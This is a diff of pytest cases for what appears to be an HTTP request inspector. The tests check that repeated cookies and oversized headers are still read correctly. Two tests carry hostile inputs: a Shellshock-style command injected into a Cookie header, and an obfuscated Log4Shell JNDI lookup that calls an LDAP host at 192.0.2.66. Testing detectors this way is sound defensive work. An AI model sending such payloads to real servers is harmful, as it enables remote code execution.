@@ -227,3 +227,28 @@ def test_a_body_that_is_many_requests_is_read_as_some_of_them() -> None:
 def test_a_body_that_is_no_request_is_none(body: bytes) -> None:
     wire = sent(with_length(body))
     assert not wire.counters["http.request_as_body"]
+
+
+# Several cookies, of which some server takes one.
+
+
+@pytest.mark.parametrize("decoys", [[b"Cookie:"], [b"Cookie: a=b"], [b"Cookie: a=b", b"cookie: ", b"COOKIE: c=d"]])
+@pytest.mark.parametrize("step", [0, 1])
+def test_each_of_several_cookies_is_an_instance(decoys: list[bytes], step: int) -> None:
+    wire = sent(request(b"GET / HTTP/1.1", *decoys, b"Cookie: () { :;}; id"), step)
+    assert b"() { :;}; id" in instances(wire, "http.cookie")
+
+
+def test_several_cookies_are_also_read_together() -> None:
+    (found, _) = sent(request(b"GET / HTTP/1.1", b"Cookie: a=b", b"Cookie:", b"Cookie: c=d")).seen
+    assert found.instances("http.cookie") == (b"a=b, c=d", b"a=b", b"c=d")
+
+
+# A head beyond the limit.
+
+
+@pytest.mark.parametrize("before", range(50_000, 66_000, 1000))
+def test_what_lies_across_the_parts_of_a_long_head_is_in_one_of_them(before: int) -> None:
+    agent = b"${${date:" + b"b" * 6000 + b"}x:ldap://192.0.2.66/a}"
+    wire = sent(request(b"GET / HTTP/1.1", b"X: " + b"a" * before, b"User-Agent: " + agent, b"Y: " + b"c" * 9000))
+    assert any(agent in found for found in instances(wire, "http.header"))
